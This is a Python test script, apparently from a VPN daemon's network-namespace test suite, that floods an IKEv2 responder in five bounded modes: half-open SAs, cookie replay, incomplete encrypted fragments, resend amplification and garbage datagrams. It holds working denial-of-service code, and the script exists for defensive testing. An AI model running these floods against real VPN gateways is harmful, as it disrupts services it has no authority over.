#!/usr/bin/env python3
"""ikeflood.py -- bounded floods against an IKEv2 responder, for the denial-of-service
scenarios (testing/netns/README.md).  Unlike ikesend.py it does real IKE_SA_INIT
exchanges (X25519, AES-GCM-16-256, PRF-HMAC-SHA2-256: the peer's connection must
accept ike=aes_gcm256-sha2_256-dh31), through python3-cryptography.

    ikeflood.py [--to ADDR] [--port P] [--src ADDR] MODE [options]

MODE is one of
    halfopen      --count N IKE_SA_INIT requests, each with a new SPIi, waiting for
                  each answer; --cookies returns a COOKIE when asked (RFC 7296 2.6);
                  --vendor-size S adds a Vendor ID payload of S octets
    cookie-replay one request is answered with a COOKIE, then the request with the
                  cookie is replayed from --ports N source ports (as a reviewer did:
                  one valid cookie, many ports)
    frag          --sas N IKE SAs negotiated up to IKE_SA_INIT (with fragmentation),
                  then for --seconds D, Encrypted Fragments 1..--frags K of an
                  IKE_AUTH request with Total Fragments --total T (never complete),
                  --size octets of plaintext each, properly protected; --fill B
                  instead: as many IKE SAs as it takes to hold exactly B octets
    resend        one IKE_SA_INIT exchange, then --count N unauthenticated IKE_AUTH
                  requests with message ID 0 (the one the cached response answers)
                  and random SK octets; counts the responses re-sent
    garbage       random octets (IKE version octet 2.0) for --seconds D

It prints one summary line a mode (the scenarios match on it).
"""

import argparse
import hashlib
import hmac
import os
import select
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives import serialization

IKE_SA_INIT, IKE_AUTH = 34, 35
PL_SA, PL_KE, PL_IDI, PL_NONCE, PL_N, PL_V, PL_SK, PL_SKF = 33, 34, 35, 40, 41, 43, 46, 53
FLAG_I, FLAG_R = 0x08, 0x20
N_COOKIE, N_FRAG = 16390, 16430
HDR_LEN = 28


def hdr(spi_i, spi_r, np, exchange, flags, msgid, length):
    return struct.pack("!8s8sBBBBII", spi_i, spi_r, np, 0x20, exchange, flags, msgid, length)


def chain(items):
    """[(type, body)] -> (first type, octets) (RFC 7296 3.2)"""
    out = b""
    for i, (_, body) in enumerate(items):
        np = items[i + 1][0] if i + 1 < len(items) else 0
        out += struct.pack("!BBH", np, 0, 4 + len(body)) + body
    return (items[0][0] if items else 0), out


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def sa_body():
    """ENCR_AES_GCM_16 256, PRF_HMAC_SHA2_256, KE 31 (RFC 7296 3.3)"""
    ts = [(1, 20, struct.pack("!HH", 0x800E, 256)), (2, 5, b""), (4, 31, b"")]
    body = b"".join(transform(i == len(ts) - 1, t, tid, a) for i, (t, tid, a) in enumerate(ts))
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, len(ts)) + body


def notify(ntype, data=b""):
    return struct.pack("!BBH", 0, 0, ntype) + data


def parse(d):
    """-> (spi_i, spi_r, exchange, flags, msgid, [(type, body)]) or None"""
    if len(d) < HDR_LEN:
        return None
    spi_i, spi_r, np, _, exch, flags, msgid, _ = struct.unpack("!8s8sBBBBII", d[:HDR_LEN])
    pls, off = [], HDR_LEN
    while np != 0 and off + 4 <= len(d):
        nxt, _, plen = struct.unpack("!BBH", d[off:off + 4])
        if plen < 4 or off + plen > len(d):
            break
        pls.append((np, d[off + 4:off + plen]))
        if np in (PL_SK, PL_SKF):
            break
        np, off = nxt, off + plen
    return spi_i, spi_r, exch, flags, msgid, pls


def cookie_of(pls):
    for t, b in pls:
        if t == PL_N and len(b) >= 4 and struct.unpack("!H", b[2:4])[0] == N_COOKIE:
            return b[4 + b[1]:]
    return None


def prf(key, data):
    return hmac.new(key, data, hashlib.sha256).digest()


def prf_plus(key, seed, n):
    out, t, i = b"", b"", 1
    while len(out) < n:
        t = prf(key, t + seed + bytes([i]))
        out += t
        i += 1
    return out[:n]


class Init:
    """one initiator's IKE_SA_INIT: request, cookie, keys"""

    def __init__(self, a, vendor_size=0, frag=False):
        self.spi_i = os.urandom(8)
        self.spi_r = bytes(8)
        self.ni = os.urandom(32)
        self.priv = X25519PrivateKey.generate()
        self.pub = self.priv.public_key().public_bytes(serialization.Encoding.Raw,
                                                       serialization.PublicFormat.Raw)
        self.vendor_size, self.frag, self.cookie = vendor_size, frag, None

    def request(self):
        items = []
        if self.cookie is not None:
            items.append((PL_N, notify(N_COOKIE, self.cookie)))	# RFC 7296 2.6: first
        items += [(PL_SA, sa_body()), (PL_KE, struct.pack("!HH", 31, 0) + self.pub),
                  (PL_NONCE, self.ni)]
        if self.frag:
            items.append((PL_N, notify(N_FRAG)))
        if self.vendor_size:
            items.append((PL_V, os.urandom(self.vendor_size)))
        np, body = chain(items)
        return hdr(self.spi_i, bytes(8), np, IKE_SA_INIT, FLAG_I, 0, HDR_LEN + len(body)) + body

    def keys(self, pls, spi_r):
        """RFC 7296 2.13, 2.14: SKEYSEED and SK_d | SK_ei | SK_er (AEAD: no SK_a)"""
        ker = next(b for t, b in pls if t == PL_KE)[4:]
        nr = next(b for t, b in pls if t == PL_NONCE)
        gir = self.priv.exchange(X25519PublicKey.from_public_bytes(ker))
        skeyseed = prf(self.ni + nr, gir)
        km = prf_plus(skeyseed, self.ni + nr + self.spi_i + spi_r, 32 + 36 + 36)
        self.spi_r, self.sk_ei = spi_r, km[32:68]


def sock_for(a):
    fam = socket.AF_INET6 if ":" in a.to else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    s.bind((a.src or "", 0))
    return s


def ask(s, a, d, wait=0.5):
    """send d, return the first parsed answer or None"""
    s.sendto(d, (a.to, a.port))
    end = time.monotonic() + wait
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return None
        r, _, _ = select.select([s], [], [], left)
        if not r:
            return None
        m = parse(s.recv(65535))
        if m is not None and m[2] == IKE_SA_INIT and m[3] & FLAG_R:
            return m


def negotiate(s, a, init, cookies=True):
    """-> "created" | "cookie" | "refused" | "other" (keys set when created)"""
    m = ask(s, a, init.request())
    if m is not None and cookie_of(m[5]) is not None and cookies:
        init.cookie = cookie_of(m[5])
        m = ask(s, a, init.request())
    if m is None:
        return "refused"
    if cookie_of(m[5]) is not None:
        return "cookie"
    if any(t == PL_SA for t, _ in m[5]):
        init.keys(m[5], m[1])
        return "created"
    return "other"


def mode_halfopen(a):
    """pipelined: requests go out without waiting; answers (and COOKIE retries) are
    handled as they come, so that silently refused requests cost no time"""
    s = sock_for(a)
    s.setblocking(False)
    inits, created, cookies = {}, set(), set()

    def drain():
        while True:
            try:
                d = s.recv(65535)
            except BlockingIOError:
                return
            m = parse(d)
            if m is None or m[2] != IKE_SA_INIT or not m[3] & FLAG_R or m[0] not in inits:
                continue
            init, c = inits[m[0]], cookie_of(m[5])
            if c is not None and a.cookies and init.cookie is None:
                init.cookie = c
                cookies.add(m[0])
                s.sendto(init.request(), (a.to, a.port))
            elif any(t == PL_SA for t, _ in m[5]):
                created.add(m[0])

    for _ in range(a.count):
        init = Init(a, a.vendor_size)
        inits[init.spi_i] = init
        s.sendto(init.request(), (a.to, a.port))
        time.sleep(a.interval)
        drain()
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        select.select([s], [], [], 0.1)
        drain()
    print("halfopen: %d sent, %d created, %d cookies answered, %d refused" %
          (a.count, len(created), len(cookies), a.count - len(created)))


def mode_cookie_replay(a):
    s = sock_for(a)
    init = Init(a)
    m = ask(s, a, init.request())
    if m is None or cookie_of(m[5]) is None:
        print("cookie-replay: no COOKIE asked for")
        return
    init.cookie = cookie_of(m[5])
    d = init.request()
    sent = 0
    for _ in range(a.ports):
        r = sock_for(a)	# a new ephemeral source port each time
        r.sendto(d, (a.to, a.port))
        r.close()
        sent += 1
        time.sleep(a.interval)
    print("cookie-replay: one cookie replayed from %d source ports" % sent)


def skf(init, msgid, number, total, plain):
    """RFC 7383 2.5 + RFC 5282: an SKF payload protected with SK_ei (AES-GCM-16)"""
    iv = os.urandom(8)
    body_len = 4 + 8 + len(plain) + 1 + 16
    pl_hdr = struct.pack("!BBH", PL_IDI if number == 1 else 0, 0, 4 + body_len)
    h = hdr(init.spi_i, init.spi_r, PL_SKF, IKE_AUTH, FLAG_I, msgid, HDR_LEN + 4 + body_len)
    frag = struct.pack("!HH", number, total)
    aad = h + pl_hdr + frag
    ct = AESGCM(init.sk_ei[:32]).encrypt(init.sk_ei[32:] + iv, plain + b"\0", aad)
    return h + pl_hdr + frag + iv + ct


def mode_frag(a):
    """--fill B: as many IKE SAs as it takes to hold exactly B octets of fragments
    (the last one's fragments shorter), else --sas of them with --frags each"""
    per_sa = [[a.size] * a.frags for _ in range(a.sas)]
    if a.fill:
        per_sa, left = [], a.fill
        while left > 0:
            sizes = []
            while left > 0 and len(sizes) < a.frags:
                sizes.append(min(a.size, left))
                left -= sizes[-1]
            per_sa.append(sizes)
    s = sock_for(a)
    sas = []
    for sizes in per_sa:
        init = Init(a, frag=True)
        if negotiate(s, a, init) == "created":
            sas.append((init, sizes))
    end, sent = time.monotonic() + a.seconds, 0
    while time.monotonic() < end:
        for init, sizes in sas:
            for n, size in enumerate(sizes, 1):
                s.sendto(skf(init, 1, n, a.total, os.urandom(size)), (a.to, a.port))
                sent += 1
            if time.monotonic() >= end:
                break
            time.sleep(a.interval)
    print("frag: %d IKE SAs, %d fragments sent" % (len(sas), sent))


def mode_resend(a):
    s = sock_for(a)
    init = Init(a)
    if negotiate(s, a, init) != "created":
        print("resend: no IKE SA")
        return
    for _ in range(a.count):
        sk = os.urandom(8 + 64 + 16)
        body = struct.pack("!BBH", PL_IDI, 0, 4 + len(sk)) + sk
        s.sendto(hdr(init.spi_i, init.spi_r, PL_SK, IKE_AUTH, FLAG_I, 0, HDR_LEN + len(body)) + body,
                 (a.to, a.port))
        time.sleep(a.interval)
    replies, end = 0, time.monotonic() + 1.0
    while True:
        left = end - time.monotonic()
        r, _, _ = select.select([s], [], [], max(left, 0))
        if not r:
            break
        s.recv(65535)
        replies += 1
    print("resend: %d sent, %d responses re-sent" % (a.count, replies))


def mode_garbage(a):
    s = sock_for(a)
    end, sent = time.monotonic() + a.seconds, 0
    while time.monotonic() < end:
        d = bytearray(os.urandom(100))
        d[17] = 0x20
        s.sendto(bytes(d), (a.to, a.port))
        sent += 1
        if a.interval:
            time.sleep(a.interval)
    print("garbage: %d datagrams in %.0f s" % (sent, a.seconds))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", choices=["halfopen", "cookie-replay", "frag", "resend", "garbage"])
    ap.add_argument("--to", default="192.0.2.23")
    ap.add_argument("--port", type=int, default=500)
    ap.add_argument("--src", default="", help="source address (default: routing picks)")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--cookies", action="store_true", help="halfopen: answer COOKIE requests")
    ap.add_argument("--vendor-size", type=int, default=0)
    ap.add_argument("--ports", type=int, default=100)
    ap.add_argument("--sas", type=int, default=1)
    ap.add_argument("--frags", type=int, default=8)
    ap.add_argument("--total", type=int, default=64)
    ap.add_argument("--size", type=int, default=1000)
    ap.add_argument("--fill", type=int, default=0, help="frag: octets to hold in all")
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--interval", type=float, default=0.001, help="seconds between datagrams")
    a = ap.parse_args()
    {"halfopen": mode_halfopen, "cookie-replay": mode_cookie_replay, "frag": mode_frag,
     "resend": mode_resend, "garbage": mode_garbage}[a.mode](a)
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
